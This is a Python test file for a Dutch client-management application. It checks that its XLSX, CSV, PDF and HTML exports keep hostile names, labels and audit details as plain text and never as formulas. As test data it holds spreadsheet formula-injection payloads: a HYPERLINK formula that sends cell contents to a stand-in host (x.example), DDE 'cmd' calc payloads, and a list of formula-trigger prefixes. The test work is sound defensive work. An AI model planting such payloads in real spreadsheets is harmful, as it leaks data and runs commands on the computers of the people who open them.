"""Hostile text through every spreadsheet writer: no cell runs as a formula, none crashes.

The writers are the client list (XLSX), the audit log export (CSV) and the monthly
figures (XLSX and CSV). Each test puts hostile strings where a user, an admin or an
imported store could put them (names, display names, reference data, audit details),
runs the real writer into a real file and reads that file back with openpyxl or csv,
as a spreadsheet would. The strings are stored straight into the (encrypted SQLite)
store, past the intake's own checks, because a writer must hold even when a store
holds what the forms would refuse.
"""

from __future__ import annotations

import csv
import dataclasses
import itertools
import re
from datetime import date
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy import update
from workspace_data import make_client

from zkijdesk import models as m
from zkijdesk.html_page import esc

# What a spreadsheet may run: OWASP's list, line feed, and the same after white space.
RUNS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
ATTACKS = (
    '=HYPERLINK("http://x.example/?d="&C3&D3,"Klik")&T("',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+31 6 12345678",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\u202e=1+1",
    '"; =1+1; "',
    "a,=1+1",
    "\x00\x01\x1b[31m\x7f",
    "\ufffe\uffff",
    "",
)
PLANES = "".join(chr(plane * 0x10000 + 0x41) for plane in range(17))
hostile = st.one_of(
    st.sampled_from(ATTACKS),
    st.builds(
        lambda prefix, body: prefix + body,
        st.sampled_from(("", *RUNS, *ATTACKS)),
        st.text(st.characters(exclude_categories=("Cs",)), max_size=40),
    ),
    st.builds(lambda c: "=" + c * 40_000, st.sampled_from("x\u00e9\u4e2d\U0001f600")),
    st.just("=" + PLANES),
)
SERIAL = itertools.count()
SETTINGS = settings(
    max_examples=25,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


def runs_as_formula(text: str) -> bool:
    return text.startswith(RUNS) or text.lstrip().startswith(RUNS)


def xlsx_cells(path: Path):
    book = load_workbook(path)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formula_in_xlsx(path: Path) -> list:
    cells = xlsx_cells(path)
    formulas = [c.coordinate for c in cells if c.data_type == "f"]
    assert not formulas, formulas
    for cell in cells:
        if isinstance(cell.value, str) and runs_as_formula(cell.value):
            # Excel's quote prefix: the cell stays text when a user edits it.
            assert cell.quotePrefix, cell.coordinate
        if isinstance(cell.value, str):  # Excel refuses a file with a longer cell
            assert len(cell.value.encode("utf-16-le")) // 2 <= 32_767, cell.coordinate
    return cells


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh, delimiter=";"))


def assert_no_formula_in_csv(rows: list[list[str]]) -> None:
    fields = [f for row in rows for f in row]
    assert not [f for f in fields if runs_as_formula(f)]


def same_text(written: str, read: str) -> bool:
    """A cell read back holds what was written; XML turns a bare CR into LF."""
    from zkijdesk.sheet_text import xlsx_text

    expected = xlsx_text(written).replace("\r\n", "\n").replace("\r", "\n")
    return read.replace("\r\n", "\n").replace("\r", "\n") == expected


@pytest.fixture
def anna(sqlite_store):
    from zkijdesk.services.container import Services
    from zkijdesk.services.users import actor_for, create_user

    create_user(sqlite_store, "beheer", "Beheerder", "admin")
    create_user(sqlite_store, "anna", "Anna", "coach", actor=actor_for(sqlite_store, "beheer"))
    return Services(sqlite_store, actor_for(sqlite_store, "anna"), lambda: date(2026, 11, 15))


def test_the_reported_client_name_is_text_in_the_client_list(anna, tmp_path):
    from zkijdesk.services.client_list import ClientListQuery
    from zkijdesk.services.list_export import ListExportService

    attack = '=HYPERLINK("http://x.example/?d="&C3&D3,"Klik")&T("'
    client, _ = make_client(anna, "Iris", "Jansen")
    with anna.store.session() as s:
        s.execute(update(m.Client).where(m.Client.id == client.id).values(first_name=attack))
    target = tmp_path / "lijst.xlsx"
    ListExportService(anna.store, anna.actor, anna.today).export_xlsx(
        ClientListQuery(), ["name", "birth_date", "postcode"], ["Naam", "Geboren", "Pc"], target
    )
    cells = assert_no_formula_in_xlsx(target)
    name = next(c for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value)
    assert name.data_type == "s" and name.value.startswith(attack)


@SETTINGS
@given(first=hostile, last=hostile)
def test_client_list_xlsx_holds_hostile_names_as_text(anna, tmp_path_factory, first, last):
    from zkijdesk.services.client_list import ClientListQuery
    from zkijdesk.services.list_export import ListExportService

    client, _ = make_client(anna, "Iris", f"Jansen{next(SERIAL)}")
    with anna.store.session() as s:
        s.execute(
            update(m.Client)
            .where(m.Client.id == client.id)
            .values(first_name=first, last_name=last)
        )
    target = tmp_path_factory.mktemp("lijst") / "lijst.xlsx"
    count = ListExportService(anna.store, anna.actor, anna.today).export_xlsx(
        ClientListQuery(), ["name", "client_number"], [first[:50] or "Naam", "Nummer"], target
    )
    cells = assert_no_formula_in_xlsx(target)
    assert len({c.row for c in cells}) == count + 1
    assert [p.name for p in target.parent.iterdir()] == ["lijst.xlsx"]


@SETTINGS
@given(name=hostile, detail=hostile)
def test_audit_csv_holds_hostile_names_and_details_as_text(anna, tmp_path_factory, name, detail):
    from zkijdesk.services import audit
    from zkijdesk.services.audit_query import AuditQueryService
    from zkijdesk.services.users import actor_for

    store = anna.store
    with store.session() as s:
        s.execute(update(m.User).where(m.User.username == "beheer").values(display_name=name))
        audit.record(s, anna.actor.user_id, "view", detail, 1, detail=detail)
    target = tmp_path_factory.mktemp("audit") / "audit.csv"
    written = AuditQueryService(store, actor_for(store, "beheer")).export_csv(target)
    rows = read_csv(target)
    assert len(rows) == written + 1  # a line break in a field never splits a row
    assert_no_formula_in_csv(rows)
    assert [p.name for p in target.parent.iterdir()] == ["audit.csv"]


@pytest.fixture(scope="module")
def publication(tmp_path_factory):
    """A month's publication of a small store, built once; labels are swapped per example."""
    from zkijdesk.services.reporting import ReportingService
    from zkijdesk.services.users import actor_for, create_user
    from zkijdesk.storage.keys import new_raw_key
    from zkijdesk.storage.store import StoreLocation, create_store

    folder = tmp_path_factory.mktemp("maand")
    store = create_store(StoreLocation(path=folder / "store.db"), key=new_raw_key())
    try:
        create_user(store, "beheer", "Beheerder", "admin")
        create_user(store, "lead", "Lead", "teamlead", actor=actor_for(store, "beheer"))
        service = ReportingService(store, actor_for(store, "lead"), lambda: date(2026, 11, 15))
        return service.preview("2026-10")
    finally:
        store.close()


def _hostile_publication(publication, labels: list[str]):
    """The same publication with every table title and row label replaced by hostile text."""
    tables = []
    for i, table in enumerate(publication.tables[:4]):
        pick = labels[i % len(labels)]
        items = tuple(
            (code, labels[(i + j) % len(labels)], en)
            for j, (code, _nl, en) in enumerate(table.rows.items)
        )
        rows = dataclasses.replace(table.rows, items=items, nl=pick, short=pick)
        tables.append(dataclasses.replace(table, nl=pick, rows=rows))
    return dataclasses.replace(publication, tables=tables)


@SETTINGS
@given(labels=st.lists(hostile, min_size=1, max_size=4))
def test_monthly_xlsx_and_csv_hold_hostile_labels_as_text(publication, tmp_path_factory, labels):
    from zkijdesk.reporting.writers import csv_writer, xlsx_writer

    hostile_publication = _hostile_publication(publication, labels)
    folder = tmp_path_factory.mktemp("uit")
    xlsx = xlsx_writer.write(hostile_publication, folder / "maand.xlsx")
    cells = assert_no_formula_in_xlsx(xlsx)
    texts = [c.value for c in cells if isinstance(c.value, str)]
    for label in labels:
        if label.strip():
            assert any(same_text(label, t) for t in texts), label[:80]
    rows = read_csv(csv_writer.write(hostile_publication, folder / "maand.csv"))
    assert_no_formula_in_csv(rows)
    width = len(rows[0])
    assert all(len(row) == width for row in rows)
    assert sorted(p.name for p in folder.iterdir()) == ["maand.csv", "maand.xlsx"]


@settings(SETTINGS, max_examples=12)
@given(first=hostile, last=hostile)
def test_intake_and_subject_access_survive_hostile_names(anna, tmp_path_factory, first, last):
    """Intake takes a name or refuses it in one sentence; the person's copy (PDF and JSON)
    of a file holding any name is written whole or not at all."""
    import json

    from pypdf import PdfReader

    from zkijdesk.domain.errors import ZkijdeskError
    from zkijdesk.services.subject_access import SubjectAccessService

    try:
        client, _ = make_client(anna, first, last + str(next(SERIAL)))
    except ZkijdeskError as refusal:
        assert refusal.message.endswith(".") and "\n" not in refusal.message
        client, _ = make_client(anna, "Iris", f"Jansen{next(SERIAL)}")
        with anna.store.session() as s:
            s.execute(
                update(m.Client)
                .where(m.Client.id == client.id)
                .values(first_name=first, last_name=last)
            )
    folder = tmp_path_factory.mktemp("inzage")
    service = SubjectAccessService(anna.store, anna.actor, anna.today)
    doc = json.loads(service.export(client.id, folder / "inzage.json").read_text("utf-8"))
    assert doc["client"]["id"] == client.id
    pdf = service.export(client.id, folder / "inzage.pdf")
    assert len(PdfReader(pdf).pages) >= 1
    assert sorted(p.name for p in folder.iterdir()) == ["inzage.html", "inzage.json", "inzage.pdf"]
    # The accessible HTML twin holds the name as text: escaped, no control character.
    page = (folder / "inzage.html").read_bytes().decode("utf-8")  # as written, CR and all
    assert page.endswith("</html>\n")
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ufffe\uffff]", page)
    assert f"<td>{esc(doc['client']['full_name'])}</td>" in page


def test_a_contact_note_of_the_longest_allowed_length_prints_in_the_access_copy(anna, tmp_path):
    """A 10,000-character note (the most a coach may type) does not fit one page's table
    cell; the person's PDF copy still comes out, with all of the note in it."""
    from pypdf import PdfReader

    from zkijdesk.services.activities import NOTE_MAX
    from zkijdesk.services.subject_access import SubjectAccessService

    client, _ = make_client(anna, "Iris", "Jansen")
    words = " ".join(f"woord{i:05d}" for i in range(NOTE_MAX))[:NOTE_MAX]
    anna.activities.record_contact(client.id, "gesprek", date(2026, 11, 2), 30, words)
    anna.activities.record_contact(client.id, "gesprek", date(2026, 11, 3), 30, "x" * NOTE_MAX)
    pdf = SubjectAccessService(anna.store, anna.actor, anna.today).export(
        client.id, tmp_path / "uit" / "inzage.pdf"
    )
    text = "".join(page.extract_text() for page in PdfReader(pdf).pages)
    last_word = words.split()[-2]
    assert "woord00000" in text and last_word in text
    assert sorted(p.name for p in pdf.parent.iterdir()) == ["inzage.html", "inzage.pdf"]
    page = pdf.with_suffix(".html").read_text("utf-8")
    assert f"<td>{words}</td>" in page and f"<td>{'x' * NOTE_MAX}</td>" in page
